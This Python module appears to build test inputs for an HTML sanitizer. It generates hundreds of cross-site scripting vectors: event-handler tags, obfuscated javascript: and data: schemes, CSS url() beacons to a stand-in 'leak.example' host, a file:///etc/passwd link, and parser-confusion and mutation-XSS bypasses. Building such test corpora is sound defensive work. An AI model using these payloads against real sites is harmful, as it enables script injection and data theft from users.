"""HTML that tries to run a script or to call home: our own ways of writing each trick, by combining what a
page can do with how it can be hidden. `CANARY` stands where a script would run, `LEAK` is where a request
would go."""

RUN = "window.ran()"
LEAK = "http://leak.example"

EVENTS = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin",
          "onpointerenter", "onpageshow", "onscroll", "onresize", "onwheel", "onstart", "onbeforeinput", "oncut"]
TAGS = ["img src=x", "body", "svg", "details open", "video src=x", "audio src=x", "input autofocus", "marquee",
        "a href=x", "p", "iframe src=x", "object data=x", "math", "table", "blockquote", "custom-element"]
SCHEMES = ["javascript:RUN", "JaVaScRiPt:RUN", " javascript:RUN", "java\tscript:RUN", "java\nscript:RUN",
           "javascript&colon;RUN", "&#106;avascript:RUN", "&#x6A;avascript:RUN", "&#0000106avascript:RUN",
           "\x01javascript:RUN", "vbscript:RUN", "livescript:RUN", "data:text/html,<script>RUN</script>",
           "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuKCk8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload=RUN>",
           "javascript://%0aRUN", "feed:javascript:RUN", "view-source:javascript:RUN", "jar:javascript:RUN",
           "blob:javascript:RUN", "about:javascript:RUN", "file:///etc/passwd", "//leak.example/a",
           "\\\\leak.example\\a", "http:\\\\leak.example\\a", "javascript:RUN//http://good.example"]
LINKS = ['<a href="URL">x</a>', "<a href='URL'>x</a>", '<img src="URL">', '<iframe src="URL"></iframe>',
         '<form action="URL"><button>x</button></form>', '<object data="URL"></object>', '<embed src="URL">',
         '<body background="URL">', '<table background="URL"><tr><td>x', '<base href="URL"><a href="a">x</a>',
         '<link rel=stylesheet href="URL">', '<meta http-equiv=refresh content="0;url=URL">',
         '<svg><a xlink:href="URL"><text>x</text></a></svg>', '<math href="URL">x</math>',
         '<video poster="URL"></video>', '<input type=image src="URL">']
STYLES = ["background:url(LEAK/a)", "background-image:url('LEAK/a')", "list-style:url(LEAK/a)",
          "content:url(LEAK/a)", "cursor:url(LEAK/a),auto", "width:expression(RUN)", "-moz-binding:url(LEAK/a)",
          "behavior:url(LEAK/a)", "background:u\\72l(LEAK/a)", "border-image:url(LEAK/a)", "mask:url(LEAK/a)",
          "background:image-set('LEAK/a' 1x)", "position:fixed;inset:0;z-index:9", "filter:url(LEAK/a#x)"]
SCRIPTS = ["<script>RUN</script>", "<SCRIPT>RUN</SCRIPT>", "<script/x>RUN</script>", "<script\n>RUN</script >",
           "<scr<script>ipt>RUN</scr</script>ipt>", "<script src=LEAK/a.js></script>", "<<script>RUN//<</script>",
           "<script>RUN", "<svg><script>RUN</script></svg>", "<svg><script href=LEAK/a.js></script></svg>",
           "<math><mtext><script>RUN</script>", "<noscript><p title=\"</noscript><script>RUN</script>\">",
           "<textarea><script>RUN</script></textarea>", "<title><img src=x onerror=RUN></title>",
           "<xmp><script>RUN</script></xmp>", "<plaintext><script>RUN</script>", "<template><script>RUN</script></template>",
           "<!--><script>RUN</script>-->", "<!-- --!><script>RUN</script>", "<![CDATA[<script>RUN</script>]]>",
           "<?xml version='1.0'?><script>RUN</script>", "<%<script>RUN</script>%>", "</p><script>RUN</script>",
           "<iframe srcdoc=\"<script>parent.ran()</script>\"></iframe>", "<iframe srcdoc='&lt;script&gt;parent.ran()&lt;/script&gt;'>",
           "<svg><style><img src=x onerror=RUN></style></svg>", "<math><style><img src=x onerror=RUN></style></math>",
           "<style>@import 'LEAK/a.css';</style>", "<style>*{background:url(LEAK/a)}</style><p>x",
           "<svg><foreignObject><body onload=RUN></foreignObject></svg>", "<svg><animate onbegin=RUN attributeName=x dur=1s>",
           "<svg><set attributeName=onmouseover to=RUN>", "<svg><use href=\"data:image/svg+xml,<svg id=x><script>RUN</script></svg>#x\">",
           "<svg><image href=LEAK/a>", "<svg><feImage href=LEAK/a>", "<isindex action=javascript:RUN>",
           "<math><maction actiontype=statusline xlink:href=javascript:RUN>x</maction></math>",
           "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
           "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=RUN&gt;\">",
           "<svg></p><style><a id=\"</style><img src=1 onerror=RUN>\">", "<select><template><img src=x onerror=RUN>",
           "<table><td><caption><form><img src=x onerror=RUN>", "<b <script>RUN</script>0", "<a title='</a><script>RUN</script>'>x",
           "<img alt=\"`><script>RUN</script>\">", "<img src=\"x` `<script>RUN</script>\"` `>", "<div id=\"<script>RUN</script>\">",
           "<a href=x&#34;onclick=&#34;RUN>x</a>", "<img src='x'onerror='RUN'>", "<img/src=x/onerror=RUN>", "<img\x0csrc=x\x0conerror=RUN>",
           "<img src=x onerror\x00=RUN>", "<i\x00mg src=x onerror=RUN>", "<img src=x onerror=&#119;indow.ran()>",
           "<img srcset='LEAK/a 1x' src=x>", "<picture><source srcset=LEAK/a><img></picture>", "<img src=x lowsrc=LEAK/a dynsrc=LEAK/a>",
           "<audio src=LEAK/a autoplay>", "<video><source src=LEAK/a></video>", "<track src=LEAK/a>", "<a ping=LEAK/a href=x>x</a>",
           "<link rel=prefetch href=LEAK/a>", "<link rel=dns-prefetch href=LEAK>", "<object data=LEAK/a></object>",
           "<applet code=LEAK/a></applet>", "<frameset><frame src=LEAK/a></frameset>", "<portal src=LEAK/a></portal>",
           "<p style='a:b;x:\"</style><script>RUN</script>'>x", "<font face='x\"><script>RUN</script>'>x", "<input name=attributes>",
           "<form name=createElement><input id=body>", "<img name=getElementById>", "<a id=ran href=javascript:RUN>x</a>",
           "<bgsound src=LEAK/a>", "<layer src=LEAK/a>", "<ilayer src=LEAK/a>", "<keygen autofocus onfocus=RUN>",
           "<dialog open onclose=RUN><form method=dialog><button autofocus>", "<div popover id=x onbeforetoggle=RUN>x</div>",
           "<button popovertarget=x>y</button>", "<menu><menuitem onclick=RUN>", "<command onclick=RUN>"]


def vectors():
    found = []
    for tag in TAGS:
        for event in EVENTS:
            quote = ("", '"', "'")[len(found) % 3]
            found.append(f"<{tag} {event}={quote}RUN{quote}>x")
    for index, link in enumerate(LINKS):
        for offset, scheme in enumerate(SCHEMES):
            if (index + offset) % 2 == 0 or index < 3:
                found.append(link.replace("URL", scheme))
    found += [f'<p style="{style}">x</p>' for style in STYLES]
    found += [f"<style>p{{{style}}}</style><p>x" for style in STYLES]
    found += SCRIPTS
    return [one.replace("RUN", RUN).replace("LEAK", LEAK) for one in found]
